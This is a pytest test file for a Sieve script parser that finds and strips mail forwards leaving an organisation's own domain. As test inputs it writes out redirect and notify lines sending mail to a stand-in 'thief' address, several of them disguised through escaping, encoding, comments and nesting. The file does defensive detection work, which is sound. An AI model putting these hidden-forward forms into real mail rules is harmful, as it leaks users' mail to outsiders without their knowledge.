"""Who a script forwards to, wherever it hides, and the same script without that."""

import pytest

from actioncenter.connectors.imap.sieve import Script, Unreadable, read

OWN = {"halden.example"}
OUT = "thief@elsewhere.example"


def leaving(content: str) -> list[str]:
    return [each.to for each in read(content.encode()).forwards if each.leaves(OWN)]


def without(content: str, **renamed: str) -> str:
    return read(content.encode()).without(OWN, renamed).decode()


@pytest.mark.parametrize(
    "script",
    [
        f'redirect "{OUT}";',
        f'REDIRECT "{OUT}" ;',
        f'redirect :copy "{OUT}";',
        f'redirect "Thief <{OUT}>";',
        'redirect "th\\ief@elsewhere.example";',
        f"redirect text:\r\n{OUT}\r\n.\r\n;",
        f'if true {{ if header :is "a" ["b", "}}"] {{ keep; }} else {{ redirect "{OUT}"; }} }}',
        f'# redirect "x@halden.example";\nredirect /* of old */ "{OUT}";',
        f'notify "mailto:{OUT}";',
        f'notify :message "m" "MailTo:ana@halden.example?cc={OUT}";',
        f'notify "mailto:ana@halden.example,{OUT.replace("@", "%40")}";',
        f'notify :method "mailto" :options ["{OUT}"];',
    ],
)
def test_a_forward_is_found_wherever_it_hides(script: str) -> None:
    assert [address.partition("<")[2].rstrip(">") or address for address in leaving(script)] == [OUT]


@pytest.mark.parametrize(
    "script",
    [
        'redirect "ben@halden.example";',
        'redirect "ben@HALDEN.example";',
        f'if header :contains "to" "{OUT}" {{ fileinto "Archive"; }}',
        f'vacation "Write to redirect {OUT} until Monday.";',
        f'/* redirect "{OUT}"; */ keep;',
        f'require "copy"; # redirect "{OUT}";\nkeep;',
        f'set "a" "redirect \\"{OUT}\\";";',
        'notify "mailto:ben@halden.example";',
    ],
)
def test_what_stays_inside_is_none(script: str) -> None:
    assert leaving(script) == []
    assert without(script) == script


@pytest.mark.parametrize(
    "script", ['set "a" "x"; redirect "${a}";', 'redirect "${a}@halden.example";', 'notify "${a}";']
)
def test_what_is_known_only_when_mail_comes_counts_as_outside(script: str) -> None:
    assert len(leaving(script)) == 1


def test_a_redirect_alone_is_kept_instead_and_a_copy_is_just_not_sent() -> None:
    script = f'if true {{ redirect "{OUT}"; stop; }}\r\n redirect :copy "{OUT}"; # mine\r\nfileinto "A";'
    assert without(script) == 'if true { keep; stop; }\r\n  # mine\r\nfileinto "A";'


def test_another_script_is_included_instead() -> None:
    script = 'include :personal "one"; include "two"; include :global "three";'
    assert without(script, one="uno") == 'include :personal "uno"; include "two"; include :global "three";'
    assert list(read(script.encode()).unseen) == ["include"]


@pytest.mark.parametrize("script", [f'redirect "{OUT}"', 'redirect "', "keep; \x00", "text:\r\nnever ends"])
def test_what_is_no_sieve_is_said_to_be_none(script: str) -> None:
    with pytest.raises(Unreadable):
        read(script.encode())


def test_what_stays_is_kept_to_the_byte() -> None:
    content = b'# \xff\xfe not UTF-8\nredirect "' + OUT.encode() + b'";\n\tkeep  ;\r\n'
    found: Script = read(content)
    assert found.without(OWN, {}) == b"# \xff\xfe not UTF-8\nkeep;\n\tkeep  ;\r\n"
